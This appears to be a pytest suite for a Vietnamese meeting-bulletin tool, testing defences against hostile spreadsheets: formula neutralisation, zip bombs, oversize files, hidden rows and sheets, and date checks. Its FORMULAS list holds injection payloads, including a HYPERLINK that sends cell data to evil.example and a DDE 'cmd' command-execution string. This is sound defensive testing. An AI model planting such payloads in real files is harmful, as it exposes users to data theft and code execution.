"""Spreadsheets are hostile files: text never becomes a formula, oversize files are refused before they
cost memory, nothing the clerk cannot see is imported, and dates are held to the template's month."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bulletin.entry.columns import BY_KEY, COLUMNS, SHEET
from bulletin.outputs.export import rows, to_csv
from bulletin.rules.verdicts import judge
from bulletin.text.cells import TRIGGERS, inert, risky
from crafted import Org, meeting
from filling import fill, good, run, template, write_csv

Capsys = pytest.CaptureFixture[str]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+SUM(1,2)",
    "-1+2",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "=cmd|' /C calc'!A0",
]


# -- formula injection ---------------------------------------------------------------------------


@given(st.sampled_from(TRIGGERS), st.text(max_size=30))
def test_inert_text_never_starts_like_a_formula_and_keeps_every_character(first: str, rest: str) -> None:
    text = first + rest
    assert risky(text)
    out = inert(text)
    assert isinstance(out, str) and not risky(out) and out == "'" + text


@given(st.text(max_size=30).filter(lambda t: not t.startswith(TRIGGERS)))
def test_harmless_text_and_numbers_are_untouched(text: str) -> None:
    assert inert(text) == text
    assert inert(-5) == -5 and inert(None) is None and inert(2.5) == 2.5


@pytest.fixture
def tricky(org: Org) -> Org:
    for i, name in enumerate(FORMULAS):
        org.cell(f"c{i}", name=name, parent=FORMULAS[-1 - i])
        org.meetings(f"c{i}", 2024, [meeting("2024-11-05")])
    return org


def test_the_overview_csv_carries_names_as_inert_text(tricky: Org) -> None:
    data = tricky.load()
    table = rows(data, judge(data, tricky.settings), tricky.settings.rules)
    parsed = list(csv.DictReader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    by_id = {r["cell"]: r for r in parsed}
    for i in range(len(FORMULAS)):
        cell = data.cells[f"c{i}"]  # as loaded: surrounding blanks trimmed
        assert by_id[f"c{i}"]["cell_name"] == "'" + cell.name
        assert by_id[f"c{i}"]["parent"] == "'" + (cell.parent or "")
    for r in parsed:
        for key, value in r.items():
            assert not risky(value) or key in ("attendance_pct", "speakers_pct"), (key, value)


def test_the_xlsx_template_holds_names_as_text_never_as_formulas(tricky: Org, capsys: Capsys) -> None:
    tricky.write("content/organization.yml", 'name: "=HYPERLINK(\\"http://evil.example\\")"\n')
    path = template(tricky, capsys, "2024-12")
    wb = load_workbook(path)
    ws = wb[SHEET]
    names = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(3, ws.max_row + 1)}
    data = tricky.load()
    for i in range(len(FORMULAS)):
        cell, name = names[f"c{i}"], data.cells[f"c{i}"].name
        assert cell.value == name and cell.data_type == "s" and cell.quotePrefix, name
    # In the file itself: the only formulas are the template's own name look-ups.
    with zipfile.ZipFile(path) as z:
        for entry in z.namelist():
            if entry.startswith("xl/worksheets/"):
                for formula in re.findall(r"<f>(.*?)</f>", z.read(entry).decode()):
                    assert formula.startswith("IFERROR(VLOOKUP("), formula
    guide = wb["Hướng dẫn"]
    assert guide["A2"].value.startswith("=HYPERLINK") and guide["A2"].data_type == "s"


def test_the_csv_template_quotes_names_as_owasp_says(tricky: Org, capsys: Capsys) -> None:
    path = template(tricky, capsys, "2024-12", "--csv")
    parsed = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = {row[0]: row[1] for row in parsed[2:]}
    data = tricky.load()
    for i in range(len(FORMULAS)):
        assert cells[f"c{i}"] == "'" + data.cells[f"c{i}"].name


# -- hostile files: size ----------------------------------------------------------------------


def rewrite(path: Path, out: Path, edit: dict[str, object]) -> Path:
    """Copy an .xlsx, replacing (a function of the old text) or adding entries."""
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            change = edit.pop(item.filename, None)
            dst.writestr(item, change(data.decode()).encode() if callable(change) else data)
        for name, data in edit.items():
            dst.writestr(name, data if isinstance(data, bytes) else str(data))
    return out


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet1"))


@pytest.fixture
def filled(org: Org, capsys: Capsys) -> Path:
    org.cell("b", name="Chi bộ B")
    return fill(template(org, capsys, "2024-12"), {"a": good("05/12/2024"), "b": good("06/12/2024")})


def dry_run(org: Org, capsys: Capsys, path: Path) -> tuple[int, str]:
    code, out, err = run(org, capsys, "import", str(path), "--dry-run")
    assert "Traceback" not in out + err
    return code, out + err


def test_a_huge_declared_dimension_costs_nothing(org: Org, filled: Path) -> None:
    """5 KB claiming A1:XFD1048576 took `import --dry-run` past 3.6 GB: the dimension is not trusted."""
    huge = rewrite(filled, filled.with_name("huge.xlsx"), {
        sheet_xml(filled): lambda x: re.sub(r'<dimension ref="[^"]+"/>', '<dimension ref="A1:XFD1048576"/>', x),
    })  # fmt: skip
    org.mkdocs_yml()
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "bulletin.cli", "-f", str(org.root / "mkdocs.yml"), "import", str(huge), "--dry-run"],
        capture_output=True, text=True, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"}, timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "Thêm mới 2 cuộc sinh hoạt" in result.stdout
    assert time.monotonic() - started < 60
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 400_000  # KB: a few hundred MB at most


@pytest.mark.parametrize(
    ("cell", "said"),
    [
        ('<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>', "XFD1048576"),
        ('<c r="A30000" t="inlineStr"><is><t>x</t></is></c>', "A30000"),
        ('<c r="BZ7" t="inlineStr"><is><t>x</t></is></c>', "BZ7"),
    ],
)
def test_data_outside_the_template_area_is_refused_not_skipped(
    org: Org, capsys: Capsys, filled: Path, cell: str, said: str
) -> None:
    row = re.match(r'<c r="[A-Z]+(\d+)"', cell)[1]  # type: ignore[index]
    far = rewrite(filled, filled.with_name("far.xlsx"), {
        sheet_xml(filled): lambda x: x.replace("</sheetData>", f'<row r="{row}">{cell}</row></sheetData>'),
    })  # fmt: skip
    code, output = dry_run(org, capsys, far)
    assert code == 1 and said in output and "ngoài vùng của biểu mẫu" in output


def test_a_zip_bomb_is_refused_before_it_is_read(org: Org, capsys: Capsys, filled: Path) -> None:
    bomb = rewrite(filled, filled.with_name("bomb.xlsx"), {"xl/media/image1.bin": b"\0" * 80_000_000})
    assert bomb.stat().st_size < 1_000_000
    code, output = dry_run(org, capsys, bomb)
    assert code == 1 and "khi giải nén" in output


def test_an_oversize_file_is_refused_by_its_size(org: Org, capsys: Capsys, tmp_path: Path) -> None:
    big = tmp_path / "lon.xlsx"
    big.write_bytes(os.urandom(11_000_000))
    code, output = dry_run(org, capsys, big)
    assert code == 1 and "tệp quá lớn" in output
    junk = tmp_path / "hong.xlsx"
    junk.write_bytes(b"not a zip at all")
    code, output = dry_run(org, capsys, junk)
    assert code == 1 and "không phải tệp Excel" in output


def test_a_csv_wider_than_the_template_is_refused(org: Org, capsys: Capsys, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "rong.csv", [{"cell": "a", "members": 10, **good("05/12/2024")}])
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"," * 70 + b"x\r\n", 1))
    code, output = dry_run(org, capsys, path)
    assert code == 1 and "ngoài vùng của biểu mẫu" in output


# -- what the clerk cannot see ----------------------------------------------------------------


def edited(path: Path, change: object) -> Path:
    wb = load_workbook(path)
    change(wb)  # type: ignore[operator]
    out = path.with_name("edited.xlsx")
    wb.save(out)
    return out


def test_a_hidden_row_with_data_is_refused_naming_it(org: Org, capsys: Capsys, filled: Path) -> None:
    def hide(wb: object) -> None:
        wb[SHEET].row_dimensions[3].hidden = True  # type: ignore[index]

    code, output = dry_run(org, capsys, edited(filled, hide))
    assert code == 1 and f"Trang tính '{SHEET}'" in output and "Dòng 3: dòng này đang bị ẩn" in output


def test_a_row_of_height_zero_is_hidden_too(org: Org, capsys: Capsys, filled: Path) -> None:
    flat = rewrite(filled, filled.with_name("flat.xlsx"), {
        sheet_xml(filled): lambda x: re.sub(r'<row r="4"( ht="[^"]*")?', '<row r="4" ht="0" customHeight="1"', x),
    })  # fmt: skip
    code, output = dry_run(org, capsys, flat)
    assert code == 1 and "Dòng 4: dòng này đang bị ẩn" in output


@pytest.mark.parametrize("key", ["notes", "excused", "date"])
def test_a_hidden_column_with_data_is_refused_naming_it(org: Org, capsys: Capsys, filled: Path, key: str) -> None:
    column = BY_KEY[key]

    def hide(wb: object) -> None:
        ws = wb[SHEET]  # type: ignore[index]
        ws.column_dimensions[column.letter].hidden = True
        ws.cell(
            row=3,
            column=COLUMNS.index(column) + 1,
            value="ghi chú ẩn" if key == "notes" else ws.cell(row=3, column=COLUMNS.index(column) + 1).value or 1,
        )

    code, output = dry_run(org, capsys, edited(filled, hide))
    assert code == 1 and f"cột '{column.heading}' ({column.letter}) đang bị ẩn" in output


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_data_sheet_is_refused_even_beside_a_visible_copy(org: Org, capsys: Capsys, filled: Path, state: str) -> None:
    def hide(wb: object) -> None:
        ws = wb[SHEET]  # type: ignore[index]
        copy = wb.copy_worksheet(ws)  # type: ignore[attr-defined]
        copy.title = "Sinh hoạt (2)"
        ws.sheet_state = state
        wb.active = wb.sheetnames.index(copy.title)  # type: ignore[attr-defined]

    code, output = dry_run(org, capsys, edited(filled, hide))
    assert code == 1 and f"trang tính '{SHEET}' đang bị ẩn" in output


def test_a_hidden_sheet_before_the_visible_one_is_not_read(org: Org, capsys: Capsys, filled: Path) -> None:
    def hide_first(wb: object) -> None:
        ws = wb[SHEET]  # type: ignore[index]
        copy = wb.copy_worksheet(ws)  # type: ignore[attr-defined]
        ws.title = "Bản cũ"
        ws.sheet_state = "veryHidden"
        copy.title = "Trang 2"
        wb.active = wb.sheetnames.index("Trang 2")  # type: ignore[attr-defined]

    code, output = dry_run(org, capsys, edited(filled, hide_first))
    assert code == 1 and "trang tính 'Bản cũ' đang bị ẩn" in output


# -- dates ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("20/10/2023", "20/10/2023"),  # another year
        ("20/11/2024", "20/11/2024"),  # another month
        ("10/05/2024", "10/05/2024"),  # day first, as Vietnamese write it: 10 May, not 5 October
        (dt.datetime(2024, 5, 10), "10/05/2024"),  # "10/05/2024" that Excel read month-first
        ("2024-11-30", "30/11/2024"),
    ],
)
def test_a_date_outside_the_templates_month_is_refused_naming_sheet_row_and_column(
    org: Org, capsys: Capsys, value: object, shown: str
) -> None:
    path = fill(template(org, capsys, "2024-10"), {"a": good(value)})
    code, output = dry_run(org, capsys, path)
    assert code == 1
    assert f"Trang tính '{SHEET}'" in output
    assert f"Dòng 3, cột 'Ngày họp': ngày {shown} không thuộc tháng 10/2024 của biểu mẫu" in output


def test_a_day_first_date_inside_the_month_is_read_as_vietnamese_write_it(org: Org, capsys: Capsys) -> None:
    path = fill(template(org, capsys, "2024-10"), {"a": good("05/10/2024")})
    code, output = dry_run(org, capsys, path)
    assert code == 0, output
    assert "05/10/2024" in output or "5/10/2024" in output


def test_a_csv_without_a_month_is_held_to_the_month_of_most_of_its_dates(org: Org, capsys: Capsys, tmp_path: Path) -> None:
    org.cell("b", name="Chi bộ B")
    org.cell("c", name="Chi bộ C")
    path = write_csv(
        tmp_path / "thang.csv",
        [{"cell": c, "members": 10, **good(day)} for c, day in (("a", "05/12/2024"), ("b", "06/12/2024"), ("c", "07/12/2023"))],
    )
    code, output = dry_run(org, capsys, path)
    assert code == 1 and "Dòng 5, cột 'Ngày họp': ngày 07/12/2023 không thuộc tháng 12/2024" in output


def test_a_csv_of_blank_lines_after_its_rows_is_read_without_keeping_them(org: Org, capsys: Capsys, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "dai.csv", [{"cell": "a", "members": 10, **good("05/12/2024")}])
    path.write_bytes(path.read_bytes() + b",\r\n" * 100_000)
    code, output = dry_run(org, capsys, path)
    assert code == 0 and "Thêm mới 1 cuộc sinh hoạt" in output
    far = tmp_path / "xa.csv"
    far.write_bytes(path.read_bytes() + b"a,x\r\n")
    code, output = dry_run(org, capsys, far)
    assert code == 1 and "ngoài vùng của biểu mẫu" in output
